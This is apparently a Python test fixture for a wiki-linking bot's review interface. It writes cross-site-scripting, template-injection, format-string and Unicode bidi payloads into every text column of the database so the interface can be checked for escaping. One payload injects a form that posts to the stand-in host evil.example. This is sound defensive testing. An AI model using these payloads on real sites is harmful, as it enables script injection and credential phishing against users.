"""Text that tries to be more than text, in every text column there is."""

from __future__ import annotations

from dataclasses import asdict

from sqlalchemy import Text
from sqlalchemy.orm import Session

from tests.review.sample import NOW
from wikibot.publish import saving
from wikibot.publish.publisher import Outcome
from wikibot.store.tables import Base, Category, Decision, Model, Page, Run, Suggestion, Wiki
from wikibot.store.task_tables import NeverLink

ATTACKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "</title><script>window.pwned=1</script>",
    "{{ 7*7 }}{% raw %}<b>x</b>",
    "%(num)s %s {0}<i>",
    "\u202e<script>\u2066",
    "</blockquote></article><form action=http://evil.example><button>",
)
# Columns whose values the program compares with words of its own.
STRUCTURE = {
    "state", "verdict", "kind", "language", "api_url", "wikitext", "redirect_to",
    "exclusion", "problem",
}  # fmt: skip


def poison(session: Session) -> int:
    """Every text column of what is shown holds attacks; returns how many values were set."""
    _add_what_is_shown(session)
    tables = (Wiki, Page, Category, Suggestion, Decision, NeverLink, Model)
    return sum(_poison_table(session, table) for table in tables)


def _poison_table(session: Session, table: type[Base]) -> int:
    names = [
        column.name
        for column in table.__table__.columns
        if isinstance(column.type, Text) and column.name not in STRUCTURE
    ]
    done = 0
    for number, row in enumerate(session.query(table).all()):
        for name in names:
            setattr(row, name, f"{number} " + " ".join(ATTACKS))
            done += 1
        if isinstance(row, Suggestion):
            row.reasons = [{"id": attack, "args": {"name": attack}} for attack in ATTACKS]
            row.wikitext = ATTACKS[number % len(ATTACKS)]
        if isinstance(row, Page):
            row.wikitext += "".join(f"\n{attack} in prose.\n" for attack in ATTACKS)
        if isinstance(row, Wiki):
            row.article_url = "javascript:window.pwned=1//$1"
        if isinstance(row, Model):
            row.figures = {attack: {attack: attack} for attack in ATTACKS}
    session.flush()
    return done


def _add_what_is_shown(session: Session) -> None:
    session.add(
        NeverLink(wiki_id=1, kind="word", value="x", source="wiki", added_by="x", added_at=NOW)
    )
    session.add(
        Model(
            wiki_id=1, kind="crtm", path="none", sha256="0", parameters={}, figures={},
            created_at=NOW,
        )
    )  # fmt: skip
    for kind in saving.KINDS:
        session.add(_publish_run(kind))
    for proposal_id, verdict in ((1, "approve"), (2, "reject"), (3, "skip")):
        session.add(
            Decision(
                suggestion_id=proposal_id, verdict=verdict, reason="x", note="x", reviewer="x",
                source="web", decided_at=NOW, before={"state": "pending"},
            )
        )  # fmt: skip
    session.flush()


def _publish_run(kind: str) -> Run:
    """A run of the page that publishes, whose every text is an attack."""
    order = asdict(saving.Order(kind, 1, "alice", pages=2))
    parts = [{"kind": "added", "text": attack} for attack in ATTACKS]
    row = {"kind": "changed", "number": 1, "parts": parts, "is_ended": True}
    texts = {name: " ".join(ATTACKS) for name in ("title", "message", "diff", "batch")}
    outcomes = [
        asdict(Outcome(**texts, state=state, revision=5, proposals=(1,))) | {"rows": [row]}
        for state in ("would", "done", "refused", "unknown")
    ]
    told = {"account": ATTACKS[0], "is_bot": False, "batch": ATTACKS[1], "stopped": ATTACKS[2]}
    return Run(
        wiki_id=1, command=kind, options=order, state="done", progress={},
        result={"outcomes": outcomes, **told}, started_at=NOW, finished_at=NOW,
    )  # fmt: skip
